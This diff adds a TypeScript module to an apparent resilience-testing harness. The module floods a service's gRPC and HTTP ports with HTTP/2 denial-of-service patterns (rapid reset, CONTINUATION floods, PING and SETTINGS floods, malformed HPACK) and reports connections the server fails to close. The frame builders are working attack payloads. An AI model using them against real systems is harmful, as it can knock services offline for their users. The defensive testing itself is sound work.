@@ -1,0 +1,82 @@
+import { setTimeout as delay } from "node:timers/promises";
+import type { Attack, Finding, Port, Strength, Target } from "../attack.ts";
+import { flag, frame, frameType, headerBlock, opening, openSocket, type RawSocket } from "../frames.ts";
+
+const path = "/userd.v1.UserOptionService/GetOption";
+const block = headerBlock(path);
+const word = (value: number): Buffer => {
+  const bytes = Buffer.alloc(4);
+  bytes.writeUInt32BE(value);
+  return bytes;
+};
+
+/** Makes the next bytes of an attack; `round` counts from 0. */
+type Flood = (round: number) => Uint8Array;
+
+/** Many times the same in one write, so that the attacker costs less than what it attacks. */
+const many = (count: number, one: (index: number) => Buffer): Flood => {
+  return (round) => Buffer.concat(Array.from({ length: count }, (_, index) => one(round * count + index)));
+};
+const idOf = (index: number): number => 2 * index + 1;
+const headers = (index: number, flags: number = flag.endHeaders | flag.endStream) => frame(frameType.headers, flags, idOf(index), block);
+
+/** The floods, and whether a connection that does this has to be ended. */
+const floods: Readonly<Record<string, { readonly next: Flood; readonly mustEnd?: true }>> = {
+  rapid_reset: {
+    next: many(100, (index) => Buffer.concat([headers(index), frame(frameType.reset, 0, idOf(index), word(8))])),
+    mustEnd: true,
+  },
+  continuation: {
+    next: (round) =>
+      round === 0
+        ? frame(frameType.headers, 0, 1, block)
+        : frame(frameType.continuation, 0, 1, Buffer.concat([Buffer.from([0, 1, 120, 100]), Buffer.alloc(100, 97)])),
+    mustEnd: true,
+  },
+  empty_continuation: {
+    next: (round) => (round === 0 ? frame(frameType.headers, 0, 1, block) : many(500, () => frame(frameType.continuation, 0, 1))(round)),
+    mustEnd: true,
+  },
+  ping: { next: many(500, () => frame(frameType.ping, 0, 0, Buffer.alloc(8))) },
+  settings: { next: many(500, () => frame(frameType.settings, 0, 0, Buffer.from([0, 4, 0, 0, 255, 255]))) },
+  window_update: { next: many(500, () => frame(frameType.windowUpdate, 0, 0, word(1))), mustEnd: true },
+  empty_data: { next: (round) => (round === 0 ? headers(0, flag.endHeaders) : many(500, () => frame(frameType.data, 0, 1))(round)) },
+  many_streams: { next: many(200, (index) => headers(index, flag.endHeaders)), mustEnd: true },
+  malformed_hpack: {
+    next: (round) =>
+      frame(frameType.headers, flag.endHeaders | flag.endStream, idOf(round), Buffer.from([0xff, 0xff, 0xff, 0xff, 0xff, 0x7f])),
+    mustEnd: true,
+  },
+};
+
+const flood = async (socket: RawSocket, next: Flood, end: number): Promise<void> => {
+  await socket.write(opening);
+  for (let round = 0; performance.now() < end && (await socket.write(next(round))); round += 1) {
+    // The polite client's process has the rest of the core.
+    if (round % 5 === 0) await delay(1);
+  }
+};
+
+const attackPort = async (target: Target, port: Port, next: Flood, { of }: Strength): Promise<number> => {
+  const sockets = await Promise.all(Array.from({ length: of(2, 8) }, () => openSocket(target.address(port), { from: "127.0.0.9" })));
+  const end = performance.now() + of(400, 5_000);
+  await Promise.all(sockets.map((socket) => flood(socket, next, end)));
+  const open = sockets.filter((socket) => socket.isOpen()).length;
+  for (const socket of sockets) socket.end();
+  return open;
+};
+
+/** Frames of HTTP/2 that cost the sender little. */
+export const frames: Attack = {
+  name: "frames",
+  about: `floods of frames over HTTP/2 without a token on both ports: ${Object.keys(floods).join(", ")}`,
+  bounds: { memoryMb: 100 },
+  run: async (target, strength) => {
+    const findings: Finding[] = [];
+    for (const [name, { next, mustEnd }] of Object.entries(floods)) {
+      const open = await Promise.all([attackPort(target, "grpc", next, strength), attackPort(target, "http", next, strength)]);
+      if (mustEnd) findings.push({ name: `${name}_open_connections`, value: Math.max(...open), bound: 0 });
+    }
+    return findings;
+  },
+};
